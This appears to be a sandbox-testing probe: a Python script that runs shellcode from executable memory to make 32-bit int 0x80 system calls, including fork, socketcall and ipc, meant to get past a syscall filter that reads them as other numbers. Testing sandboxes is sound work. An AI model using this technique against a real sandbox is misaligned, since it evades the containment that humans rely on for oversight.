"""Makes 32-bit system calls from machine code: numbers that a filter may read as others."""

import ctypes
import mmap
import os

from attack_kit import reached

# mov eax, edi; mov ebx, esi; int 0x80; ret: number and one argument, and rbx is kept
CODE = b"\x53\x89\xf8\x89\xf3\x31\xc9\x31\xd2\xcd\x80\x5b\xc3"
page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(CODE)
address = ctypes.addressof(ctypes.c_char.from_buffer(page))
call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_int)(address)
NUMBERS = {"getpid": 20, "getuid": 24, "fork": 2, "umask": 60, "socketcall": 102, "ipc": 117}
for name, number in NUMBERS.items():
    result = call(number, 0o77 if name == "umask" else 0)
    if result == 0 and name == "fork":
        os._exit(0)
    if result >= 0:
        reached(f"32-bit {name}: {result}")
